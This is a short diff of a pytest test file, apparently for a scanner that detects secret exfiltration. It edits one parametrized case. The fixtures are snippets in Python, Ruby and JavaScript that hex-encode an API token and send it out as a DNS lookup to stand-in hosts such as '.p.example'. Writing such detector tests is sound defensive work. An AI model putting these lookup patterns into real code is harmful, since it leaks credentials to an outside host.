@@ -95,7 +95,7 @@ def test_ruby_methods_that_are_called_by_their_bare_name() -> None:
 @pytest.mark.parametrize(
     ("path", "text"),
     [
-        ("a.py", "def f(config):\n    socket.gethostbyname(config.api_token.encode().hex() + '.p.example')\n"),
+        ("a.py", "def f(config):\n    gethostbyname(config.api_token.encode().hex() + '.p.example')\n"),
         ("a.rb", 'def f(config)\n  Resolv.getaddress("#{config.api_token.unpack1(\'H*\')}.ex")\nend\n'),
         ("a.js", "dns.resolve(`${Buffer.from(config.apiToken).toString('hex')}.probe.example`, done);\n"),
         ("a.go", GO_LOOKUP),
